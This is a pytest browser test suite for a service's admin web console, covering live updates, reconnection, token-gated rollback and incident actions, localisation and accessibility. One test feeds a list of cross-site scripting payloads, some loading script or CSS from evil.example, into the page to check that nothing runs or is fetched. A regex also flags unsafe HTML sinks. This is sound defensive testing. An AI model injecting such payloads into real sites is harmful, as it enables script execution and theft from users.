"""The console in a real browser: it lives, it can be used without a mouse, and runs nothing that anybody said."""

from __future__ import annotations

import asyncio
import dataclasses
import importlib.util
import json
import re
from pathlib import Path

import aiohttp
import pytest

from guard.admin import console, shapes
from guard.admin.console import TYPES
from slo.clock import SystemClock
from tests.browser import Page, browser, needs_chromium
from tests.unit.admin_helpers import TOKEN, Site
from tests.unit.test_admin_server import serving

pytestmark = [pytest.mark.anyio, pytest.mark.slow, needs_chromium]
READY = "document.getElementById('main')?.dataset.ready"
AXE = importlib.util.find_spec("axe_core_python")
MAKES_HTML = re.compile(r"innerHTML|outerHTML|insertAdjacentHTML|document\.write|\beval\(|new Function")
CORPUS = (
    "<script>document.title='owned'</script>", "<img src=x onerror=\"document.title='owned'\">",
    "<svg onload=\"document.title='owned'\">", "javascript:document.title='owned'", "\"><iframe srcdoc='<script>'>",
    "{{constructor.constructor('document.title=1')()}}", "</textarea><script src=//evil.example/x.js></script>",
    "<a href='//evil.example'>x</a>", "<style>@import url(//evil.example/x.css)</style>",
    "\u202egnp.exe\u2066<b>", "<math><mi//xlink:href=\"data:x,<script>document.title='owned'</script>\">",
)  # fmt: skip


@pytest.fixture
def anyio_backend() -> str:
    return "asyncio"


class ManyRows:
    """A backend with 50 releases and 1,000 exchanges to give."""

    def __init__(self, site: Site) -> None:
        self.plain = site.backend
        rows = self.plain.slo().objectives
        many = [
            shapes.SloRow(f"rule-{n}", rows[1].indicator, f"release{n:02}", "stable", "ok", False, 0.01, 0.05, 0.02,
                          "ratio", 3600.0, 500, 400, "rollback", "fine")
            for n in range(50)
        ]  # fmt: skip
        report = shapes.SloReport("faq-bot", 1.0, tuple(many))
        self.outcome = "ok"
        self._exchange = self.plain.exchanges(1).exchanges[0]
        self.plain.slo = lambda: report  # type: ignore[method-assign]
        self.plain.exchanges = self._exchanges  # type: ignore[method-assign]

    def _exchanges(self, limit: int) -> shapes.ExchangeList:
        return shapes.ExchangeList((dataclasses.replace(self._exchange, outcome=self.outcome),) * limit)


async def test_nothing_that_anybody_said_is_run_or_fetched() -> None:
    for words in (" ".join(CORPUS), *CORPUS[:3]):
        site = Site(words=words, clock=SystemClock())
        async with serving(site) as handle, browser() as page:
            await page.open(f"{handle.url}/", READY)
            assert await page.run("document.querySelectorAll('iframe,img,object,embed,base').length") == 0
            assert await page.run("[...document.scripts].map(s => s.src)") == [f"{handle.url}/console/app.js"]
            await page.run("document.querySelector('[data-incident]').click()")
            await page.until("document.getElementById('detail').open")
            assert await page.run("document.title") != "owned"
            strangers = [url for url in page.requests() if not url.startswith(handle.url)]
            assert strangers == []
            assert not [c for c in page.complaints() if "Content Security Policy" in c]


async def test_it_is_live_and_says_when_it_is_not() -> None:
    site = Site(words="fine", clock=SystemClock())
    async with browser() as page:
        async with serving(site) as handle:
            await page.open(f"{handle.url}/?lang=en", READY)
            objectives = await page.run("document.getElementById('slo').textContent")
            assert "breach" in objectives
            assert "Verdict: fail" in objectives
            assert "beside stable: fine" in objectives
            assert "[object" not in await page.run("document.body.textContent")
            assert await page.run("document.querySelectorAll('svg.spark').length") >= 1
            site.backend.words = "changed while it was open"
            await page.until("document.getElementById('release').textContent.includes('changed while it was open')")
        await page.until("document.getElementById('link')?.hidden === false")
        assert "No connection" in await page.run("document.getElementById('link').textContent")
    away = ("ERR_CONNECTION_REFUSED", "ERR_INCOMPLETE")
    assert all(any(word in complaint for word in away) for complaint in page.complaints())


async def test_it_comes_back_when_there_was_no_stream_for_it_and_says_why() -> None:
    """An answer other than 200 ends an EventSource for good; a proxy gives one while the guard behind it restarts."""
    site = Site(words="fine", clock=SystemClock())
    async with serving(site) as handle, browser() as page:
        with pytest.MonkeyPatch.context() as patch:
            patch.setattr(console, "STREAM_COUNT", 0)
            await page.open(f"{handle.url}/?lang=en", "document.getElementById('link')?.hidden === false")
            await page.until("document.getElementById('link').textContent.includes('0 consoles are open; close one')")
        await page.until(READY)
        await page.until("document.getElementById('link').hidden")


async def test_a_hidden_tab_leaves_its_stream_to_others_and_takes_one_when_it_is_seen_again() -> None:
    site = Site(words="fine", clock=SystemClock())
    turn = "Object.defineProperty(document, 'hidden', {value: %s, configurable: true});" + (
        "document.dispatchEvent(new Event('visibilitychange'))"
    )
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(console, "STREAM_COUNT", 1)
        async with serving(site) as handle, browser() as page, aiohttp.ClientSession(handle.url) as other:
            await page.open(f"{handle.url}/?lang=en", READY)
            async with other.get("/api/v1/stream") as refused:
                assert refused.status == 503
            await page.run(turn % "true")
            async with asyncio.timeout(40):
                while True:
                    async with other.get("/api/v1/stream") as taken:
                        if taken.status == 200:
                            break
                    await asyncio.sleep(0.05)
            site.backend.words = "said while nobody looked"
            await page.run(turn % "false")
            await page.until("document.getElementById('release').textContent.includes('while nobody looked')")


async def test_what_was_asked_for_as_more_stays_live_and_a_dead_guard_is_said() -> None:
    site = Site(words="fine", clock=SystemClock())
    many = ManyRows(site)
    async with browser() as page:
        async with serving(site) as handle:
            await page.open(f"{handle.url}/?lang=en", READY)
            rows = "document.getElementById('exchanges').tBodies[0].rows"
            await page.run("document.getElementById('more').click()")
            await page.until(f"{rows}.length === 200")
            many.outcome = "timeout"
            await page.until(f"{rows}[199].textContent.includes('timeout')")
        await page.run(f"document.getElementById('token').value = '{TOKEN}'")
        await page.run("document.querySelector('[data-incident]').click()")
        await page.until("document.getElementById('detail').open")
        assert await page.run("document.getElementById('d-body').textContent") == "The guard does not answer."


async def test_times_of_another_day_carry_their_date_and_midnight_is_no_24() -> None:
    site = Site(words="fine", clock=SystemClock())
    async with serving(site) as handle, browser() as page:
        await page.call("Emulation.setTimezoneOverride", timezoneId="Asia/Taipei")
        await page.open(f"{handle.url}/?lang=en", READY)
        cell = "document.getElementById('incidents').tBodies[0].rows[0].cells[0].textContent"
        assert await page.run(cell) == "2025-06-15 23:06:40"  # 1750000000 in UTC+8
        head = "document.getElementById('incidents').tHead.rows[0].cells[0].textContent"
        assert await page.run(head) == "Time (UTC+8)"
        say = "import('/console/draw.js').then(m => m.clock(new Date(2026, 0, 2, 0, 5, 9).getTime() / 1000))"
        assert await page.run(say) == "2026-01-02 00:05:09"


async def test_a_release_that_is_paused_or_rolled_back_is_said_to_be() -> None:
    site = Site(words="fine", clock=SystemClock())
    status = site.backend.release_status()
    async with serving(site) as handle, browser() as page:
        await page.open(f"{handle.url}/?lang=en", READY)
        for phase, ratio, shown, stages in (
            ("paused", 0.641, "paused", 1),
            ("rolled_back", 0.0, "rolled back", 0),
            ("rolling_out", 0.1, "rolling out", 1),
        ):
            now = dataclasses.replace(status, phase=phase, canary_ratio=ratio)
            site.backend.release_status = lambda now=now: now  # type: ignore[method-assign, misc]
            await page.until(f"document.querySelector('#release dd').textContent === '{shown}'")
            assert await page.run("document.querySelectorAll('#release ol').length") == stages
            said = await page.run("document.querySelector('#release .bar').ariaLabel")
            assert said == f"stable {round(100 - ratio * 100, 1):g} %, canary {ratio * 100:g} %"


async def test_an_address_names_no_language_that_is_none() -> None:
    async with serving(Site(words="fine", clock=SystemClock())) as handle, browser() as page:
        await page.open(f"{handle.url}/?lang=toString&theme=toString", READY)
        assert await page.run("document.documentElement.lang") == "en"
        assert await page.run("document.getElementById('slo').tBodies[0].rows.length") == 2
        assert page.complaints() == []


async def test_an_action_needs_the_token_and_the_typed_word() -> None:
    site = Site(words="v1", clock=SystemClock())
    async with serving(site) as handle, browser() as page:
        await page.open(f"{handle.url}/?lang=en", READY)
        click = "document.querySelector('[data-action=rollback]').click()"
        await page.run(click)
        assert "token" in await page.run("document.getElementById('said').textContent")
        await page.run(f"document.getElementById('token').value = {json.dumps(TOKEN)}")
        await page.run(click)
        await page.until("document.getElementById('confirm').open")
        assert await page.run("document.getElementById('c-go').disabled")
        assert await page.run("document.activeElement.id") == "c-word"
        for key in "v2":
            await page.press(key)
        assert await page.run("document.getElementById('c-go').disabled")
        await page.run("document.getElementById('c-word').value = ''")
        for key in "v1":
            await page.press(key)
        await page.until("!document.getElementById('c-go').disabled")
        assert site.backend.commands == []
        await page.run("document.getElementById('c-go').click()")
        await page.until("document.getElementById('said').textContent === 'rollback done'")
        assert [(name, command.expected_epoch) for name, command, _ in site.backend.commands] == [("rollback", 7)]
        assert await page.run("JSON.stringify(localStorage).includes('a-token')") is False


async def test_an_incident_is_closed_with_the_token_and_a_reason() -> None:
    site = Site(clock=SystemClock())
    async with serving(site) as handle, browser() as page:
        await page.open(f"{handle.url}/", READY)
        open_it = "document.querySelector('[data-incident]').click()"
        press = "document.querySelector('[data-closes]').click()"
        said = "document.getElementById('close-said').textContent"
        await page.run(open_it)
        await page.until("document.querySelector('[data-closes]') !== null")
        await page.run(press)
        assert await page.run(said) == "Enter the admin token first."
        await page.run(f"document.getElementById('token').value = '{TOKEN}'")
        await page.run(press)
        assert await page.run(said) == "Say in a few words why it is over."
        assert site.backend.closed == []
        await page.run("document.getElementById('close-reason').value = ' wrong index '")
        await page.run(press)
        await page.until(f"{said} === 'fine'")
    ((incident_id, reason, actor),) = site.backend.closed
    assert (incident_id, reason, actor.split(" (")[0]) == ("inc1", "wrong index", "console")


async def test_words_of_an_exchange_need_the_token() -> None:
    site = Site(words="e1", clock=SystemClock())
    async with serving(site) as handle, browser() as page:
        await page.open(f"{handle.url}/?lang=en", READY)
        await page.run("document.querySelector('[data-exchange]').click()")
        await page.until("document.getElementById('detail').open")
        assert "need the admin token" in await page.run("document.getElementById('d-body').textContent")
        await page.run("document.getElementById('detail').close()")
        await page.run(f"document.getElementById('token').value = {json.dumps(TOKEN)}")
        await page.run("document.querySelector('[data-exchange]').click()")
        await page.until("document.getElementById('d-body').textContent.includes('Answer')")


async def test_keys_language_and_theme() -> None:
    site = Site(words="fine", clock=SystemClock())
    async with serving(site) as handle, browser() as page:
        await page.open(f"{handle.url}/?lang=en&theme=light", READY, width=360, height=740)
        assert await page.run("document.documentElement.scrollWidth <= 360"), "wider than a telephone"
        await page.press("l")
        await page.until("document.documentElement.lang === 'zh-TW'")
        assert await page.run("document.getElementById('h-slo').textContent") == "\u76ee\u6a19"
        await page.press("t")
        assert await page.run("document.documentElement.dataset.theme") == "dark"
        await page.press("3")
        assert await page.run("document.activeElement.id") == "s-slo"
        await page.press("p")
        assert await page.run("document.getElementById('pause').getAttribute('aria-pressed')") == "true"


@pytest.mark.skipif(
    importlib.util.find_spec("axe_core_python") is None, reason="needs the PyPI package axe-core-python"
)
@pytest.mark.parametrize("theme", ["light", "dark"])
async def test_axe_finds_nothing_serious(theme: str) -> None:
    assert AXE is not None
    assert AXE.origin is not None
    axe = next(Path(AXE.origin).parent.rglob("axe.min.js")).read_text(encoding="utf-8")
    site = Site(words="fine", clock=SystemClock())
    async with serving(site) as handle, browser() as page:
        await page.open(f"{handle.url}/?lang=en&theme={theme}", READY)
        await page.run(axe)
        found = await page.run("axe.run().then(r => r.violations.map(v => [v.impact, v.id, v.nodes.map(n => n.html)]))")
    assert [v for v in found if v[0] in ("serious", "critical")] == []


async def test_a_thousand_exchanges_and_fifty_releases() -> None:
    site = Site(words="fine", clock=SystemClock())
    ManyRows(site)
    async with serving(site) as handle, browser() as page:
        await page.open(f"{handle.url}/?lang=en", READY)
        assert await page.run("document.getElementById('slo').tBodies[0].rows.length") == 50
        for wanted in (200, 800, 1000):
            await page.run("document.getElementById('more').click()")
            await page.until(f"document.getElementById('exchanges').tBodies[0].rows.length === {wanted}")
        assert await page.run("document.getElementById('more').hidden")
        assert page.complaints() == []


async def watch_keys(page: Page) -> None:
    """Every key of the words is there in both languages."""
    keys = await page.run("import('/console/words.js').then(m => m.KEYS)")
    assert sorted(keys["en"]) == sorted(keys["zh-TW"])


async def test_both_languages_have_every_word() -> None:
    async with serving(Site(words="fine", clock=SystemClock())) as handle, browser() as page:
        await page.open(f"{handle.url}/?lang=en", READY)
        await watch_keys(page)


def test_no_part_of_the_page_makes_html_of_a_string_or_names_another_host() -> None:
    folder = Path(__file__).resolve().parents[2] / "guard" / "admin" / "console"
    for name in TYPES:
        text = (folder / name).read_text(encoding="utf-8")
        assert not re.search(r"innerHTML|outerHTML|insertAdjacentHTML|document\.write|\beval\(|new Function", text), (
            name
        )
        addresses = set(re.findall(r"https?://[^\s\"'`)]+", text))
        assert addresses <= {"http://www.w3.org/2000/svg"}, name
